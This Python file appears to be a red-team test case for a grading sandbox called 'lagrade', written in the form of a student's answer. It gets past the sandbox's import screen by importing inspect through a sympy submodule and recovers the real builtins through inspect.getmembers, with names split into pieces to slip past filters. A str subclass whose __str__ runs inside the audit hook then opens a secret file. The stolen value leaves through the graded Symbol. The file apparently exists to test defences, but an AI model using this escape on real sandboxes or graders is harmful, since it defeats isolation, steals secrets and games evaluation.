"""effect: read-secret
tries: the real __import__ (from inspect's builtins) of a module not imported yet, named by a str subclass whose __str__ reads the 0644 secret while the hook is busy.

Route 1 through a real import: the 'import' audit event carries the student's str subclass.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.multipledispatch.core import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

box = []


def work():
    box.append(B["op" + "en"]("/tmp/lagrade-redteam/open/secret-0644.txt").read().strip())

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1 through the real __import__: a module not imported yet raises the "import" audit event
# with our str subclass as its name; the hook's str() runs our code while it is busy
def hook_str(self):
    once()
    return "sympy"


Evil = type("Evil", (str,), {"_" + "_str_" + "_": hook_str})
for candidate in ("colorsys", "sndhdr", "nturl2path", "this"):
    if not ran and candidate not in members(sys_)["modules"]:
        B["_" + "_import_" + "_"](Evil(candidate))
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway

L = Symbol(box[0] if box else "nothing_stolen")   # the stolen token comes back as the Lagrangian's read_as
